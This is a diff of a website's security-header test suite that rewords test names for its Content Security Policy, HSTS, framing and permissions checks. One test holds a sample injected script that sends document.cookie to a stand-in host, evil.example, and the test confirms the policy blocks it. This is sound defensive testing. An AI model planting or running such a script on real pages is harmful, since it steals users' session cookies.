@@ -34,7 +34,7 @@ function allowed(directive: string): string[] {
   )
 }
 
-/** Whether a browser that follows the policy would use an inline script or style with this text. */
+/** Whether the policy allows an inline script or style with this text. */
 function allowsInline(directive: string, text: string): boolean {
   const hash = createHash('sha256').update(text).digest('base64')
   return allowed(directive).some((source) => source === `'sha256-${hash}'`)
@@ -64,7 +64,7 @@ test('the policy allows nothing else', () => {
   expect(allowed('style-src').join(' ')).not.toMatch(/unsafe|https?:|\*|data:/)
 })
 
-test('a script that gets into a page later is blocked, and would stop the next build', async () => {
+test('a script added to a page later is blocked and stops the next build', async () => {
   const injected = 'fetch("https://evil.example/?c="+document.cookie)'
   expect(allowsInline('script-src', injected)).toBe(false)
   expect(allowed('connect-src')).toEqual(["'self'"])
@@ -78,11 +78,11 @@ test('a script that gets into a page later is blocked, and would stop the next b
   expect(policy).toBe(headers['content-security-policy'])
 })
 
-test('the Observatory gives at least 120 points', () => {
+test('the Observatory score is at least 120', () => {
   expect(observatoryScore(headers, html)).toBe(140)
 })
 
-test('browsers keep to https, frame nothing, and use no sensor', () => {
+test('headers enforce https and forbid framing and sensors', () => {
   expect(headers).toMatchObject({
     'strict-transport-security': 'max-age=63072000',
     'x-frame-options': 'DENY',
@@ -94,7 +94,7 @@ test('browsers keep to https, frame nothing, and use no sensor', () => {
   expect(headers['permissions-policy']).toMatch(/camera=\(\), .*geolocation=\(\)/)
 })
 
-test('pictures may be shown by others, such as readers of the feeds', async () => {
+test('other sites, such as feed readers, may show pictures', async () => {
   const { headers } = await fetch(`${server.url}/static/picture.jpg`)
   expect(headers.get('cross-origin-resource-policy')).toBeNull()
 })
